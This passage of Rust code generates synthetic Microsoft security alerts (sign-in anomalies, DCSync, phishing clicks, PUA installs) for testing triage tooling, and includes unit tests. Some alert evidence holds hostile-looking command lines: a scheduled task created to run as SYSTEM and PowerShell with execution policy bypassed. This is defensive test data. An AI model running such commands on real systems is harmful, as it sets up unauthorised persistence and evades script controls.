            let (rule, evidence, holds_person, holds_host) = match self.num(100) {
                0..=13 => (UNFAMILIAR, vec![user_cloud(&p, "unknown", ""), ip_ev(PROXY_IP, "NL", "unknown", "")], true, false),
                14..=21 => (IMPOSSIBLE, vec![user_cloud(&p, "unknown", ""), ip_ev(PROXY_IP, "NL", "unknown", ""),
                    ip_ev(&far, "US", "unknown", "")], true, false),
                22..=29 => (MASS_DL, vec![user_cloud(&p, "unknown", ""), ip_ev(PROXY_IP, "NL", "unknown", "")], true, false),
                30..=35 => (CLICK, vec![user_cloud(&p, "unknown", ""), mailbox_ev(&p, "unknown"),
                    url_ev(&format!("https://track.newsletter-{}.example/c/{}", self.num(40), self.hex(8)), "suspicious"),
                    ip_ev(PROXY_IP, "NL", "unknown", "")], true, false),
                36..=47 => (RECON, vec![host_mdi(&w, "unknown", "source"), user_mdi(&p, "unknown", ""),
                    host_mdi(&dc, "unknown", "destination")], true, true),
                48..=51 => (DCSYNC, vec![host_mdi(&w, "unknown", "source"), host_mdi(&dc, "unknown", "destination")], false, true),
                52..=61 => (TASK, vec![host_mde(&w, "unknown", ""), process_ev("schtasks.exe",
                    &digest("stock schtasks.exe"), "schtasks.exe /create /sc daily /tn Updater /ru SYSTEM", &w, &self.system.clone(), self.range(1000, 9000))], false, true),
                62..=71 => (PS, vec![host_mde(&w, "unknown", ""), process_ev("powershell.exe", &self.powershell.clone(),
                    "powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\Intune\\inventory.ps1", &w, &self.system.clone(), self.range(1000, 9000))], false, true),
                72..=81 => (ZAP_URL, vec![mailbox_ev(&p, "unknown"), exo(),
                    url_ev(&format!("https://promo-{}.example/{}", self.num(60), self.hex(6)), "suspicious")], true, false),
                82..=89 => (REPORTED, vec![mailbox_ev(&p, "unknown"), exo()], true, false),
                _ => {
                    let pua = digest(&format!("pua {}", self.hex(16)));
                    (PUA, vec![host_mde(&w, "unknown", ""), file_ev("FreeConverterSetup.exe", &pua, &w, "suspicious"),
                        user_mde(&p, "unknown", "")], true, true)
                }
            };
            self.emit(&story, rule, at, evidence);
            if holds_person {
                hold(&mut busy, [format!("p{pi}")], at, at, false);
            }
            if holds_host {
                hold(&mut busy, [format!("w{wi}")], at, at, false);
            }
        }
    }

    /// An index of `prefix` (people `p`, workstations `w`) free at `at` for a story (no other
    /// story holds it within [`STORY_GAP`]) or for a noise alert (no story within
    /// [`STORY_QUIET`], no noise alert within [`NOISE_GAP`]). Where none is free after a few
    /// tries (a tenant of many alerts over a few days), the least recently held one.
    fn free_index(&mut self, busy: &Busy, prefix: &str, n: usize, at: i64, story: bool) -> usize {
        let margin = |by_story: bool| match (story, by_story) {
            (true, _) => STORY_GAP,
            (false, true) => STORY_QUIET,
            (false, false) => NOISE_GAP,
        };
        let mut best = (i64::MIN, 0usize);
        for _ in 0..40 {
            let i = self.num(n as u64) as usize;
            let key = format!("{prefix}{i}");
            // How far `at` is from the nearest hold, less the margin it needs (≥ 0: free).
            let room = busy
                .get(&key)
                .into_iter()
                .flatten()
                .map(|(from, to, by_story)| {
                    let distance = if at < *from {
                        from - at
                    } else {
                        (at - to).max(0)
                    };
                    distance - margin(*by_story)
                })
                .min()
                .unwrap_or(i64::MAX);
            if room >= 0 {
                return i;
            }
            if room > best.0 {
                best = (room, i);
            }
        }
        best.1
    }

    /// Up to `k` different people free for a story at `at` (no other story holds them within
    /// [`STORY_GAP`]), topped up with held ones where too few are free (short spans).
    fn free_people(&mut self, busy: &Busy, n: usize, k: usize, at: i64) -> Vec<usize> {
        let order = self.distinct(n, n);
        let free = |i: &usize| {
            busy.get(&format!("p{i}"))
                .into_iter()
                .flatten()
                .all(|(from, to, _)| {
                    let distance = if at < *from {
                        from - at
                    } else {
                        (at - to).max(0)
                    };
                    distance >= STORY_GAP
                })
        };
        let mut chosen: Vec<usize> = order.iter().copied().filter(free).take(k).collect();
        chosen.extend(
            order
                .into_iter()
                .filter(|i| !free(i))
                .take(k - chosen.len()),
        );
        chosen
    }

    /// `k` different indices below `n`.
    fn distinct(&mut self, n: usize, k: usize) -> Vec<usize> {
        let mut all: Vec<usize> = (0..n).collect();
        for i in 0..k.min(n) {
            let j = i + self.num((n - i) as u64) as usize;
            all.swap(i, j);
        }
        all.truncate(k.min(n));
        all
    }
}

fn hold(busy: &mut Busy, keys: impl IntoIterator<Item = String>, from: i64, to: i64, story: bool) {
    for key in keys {
        busy.entry(key).or_default().push((from, to, story));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> Vec<GeneratedAlert> {
        generate_harbourline(&HarbourConfig {
            units: 2,
            ..HarbourConfig::default()
        })
    }

    #[test]
    fn the_same_config_gives_the_same_bytes() {
        assert_eq!(
            crate::to_graph_page(&small()),
            crate::to_graph_page(&small())
        );
        let other = generate_harbourline(&HarbourConfig {
            seed: 7,
            units: 2,
            ..HarbourConfig::default()
        });
        assert_ne!(crate::to_graph_page(&small()), crate::to_graph_page(&other));
    }

    #[test]
    fn ids_are_unique_and_the_story_is_not_in_the_json() {
        let alerts = small();
        let ids: std::collections::BTreeSet<&str> = alerts
            .iter()
            .map(|a| a.alert["id"].as_str().unwrap_or_default())
            .collect();
        assert_eq!(ids.len(), alerts.len());
        let page = crate::to_graph_page(&alerts);
        assert!(!page.contains("unit000/"));
        assert!(alerts.iter().all(|a| a.story.starts_with("unit00")));
    }

    #[test]
    fn sprays_and_brute_force_raise_one_alert_per_account() {
        let alerts = small();
        for unit in ["unit000", "unit001"] {
            let spray: Vec<&GeneratedAlert> = alerts
                .iter()
                .filter(|a| a.story == format!("{unit}/spray"))
                .collect();
            assert!(spray.len() >= 12, "{}", spray.len());
            let first = spray.iter().map(|a| &a.alert["firstActivityDateTime"]);
            let times: Vec<&str> = first.filter_map(|t| t.as_str()).collect();
            let (lo, hi) = (times.iter().min(), times.iter().max());
            assert!(lo.is_some() && hi.is_some());
            // Each spray alert names exactly one user.
            for a in spray
                .iter()
                .filter(|a| a.alert["title"] == "Password spray")
            {
                let users = a.alert["evidence"].as_array().map_or(0, |e| {
                    e.iter()
                        .filter(|e| e["@odata.type"] == "#microsoft.graph.security.userEvidence")
                        .count()
                });
                assert_eq!(users, 1);
            }
            let brute = alerts
                .iter()
                .filter(|a| a.story == format!("{unit}/brute-force"))
                .count();
            assert!((11..=41).contains(&brute), "{brute}");
        }
    }

    #[test]
    fn each_product_names_identities_its_own_way() {
        let alerts = small();
        for a in &alerts {
            let service = a.alert["serviceSource"].as_str().unwrap_or_default();
            for e in a.alert["evidence"].as_array().into_iter().flatten() {
                let kind = e["@odata.type"].as_str().unwrap_or_default();
                let user = &e["userAccount"];
                match (service, kind) {
                    (
                        "microsoftDefenderForIdentity",
                        "#microsoft.graph.security.deviceEvidence",
                    ) => {
                        let host = e["hostName"].as_str().unwrap_or_default();
                        assert_eq!(host, host.to_uppercase());
                        assert!(e["mdeDeviceId"].is_null() && e["deviceDnsName"].is_null());
                    }
                    ("azureAdIdentityProtection", "#microsoft.graph.security.userEvidence") => {
                        assert!(user["userSid"].is_null() && user["userPrincipalName"].is_string());
                    }
                    ("microsoftDefenderForEndpoint", "#microsoft.graph.security.userEvidence") => {
                        assert!(user["userPrincipalName"].is_null() && user["userSid"].is_string());
                    }
                    _ => {}
                }
            }
        }
    }

    #[test]
    fn the_proxy_is_in_about_a_fifth_of_the_alerts_and_on_most_days() {
        let alerts = generate_harbourline(&HarbourConfig {
            units: 4,
            days: 45,
            ..HarbourConfig::default()
        });
        let with_proxy: Vec<&GeneratedAlert> = alerts
            .iter()
            .filter(|a| a.alert["evidence"].to_string().contains(PROXY_IP))
            .collect();
        let share = with_proxy.len() as f64 / alerts.len() as f64;
        assert!((0.12..0.30).contains(&share), "{share}");
        let days: std::collections::BTreeSet<&str> = with_proxy
            .iter()
            .filter_map(|a| a.alert["firstActivityDateTime"].as_str())
            .map(|t| &t[..10])
            .collect();
        assert!(days.len() >= 40, "{}", days.len());
    }

    #[test]
    fn the_same_device_is_infected_again_sixty_days_later() {
        let alerts = small();
        let device_of = |story: &str| -> Vec<String> {
            alerts
                .iter()
                .filter(|a| a.story == story)
                .flat_map(|a| a.alert["evidence"].as_array().cloned().unwrap_or_default())
                .filter_map(|e| e["mdeDeviceId"].as_str().map(str::to_owned))
                .collect()
        };
        let (first, again) = (
            device_of("unit000/malware"),
            device_of("unit000/malware-again"),
        );
        assert!(!again.is_empty());
        assert_eq!(first[0], again[0]);
    }
}
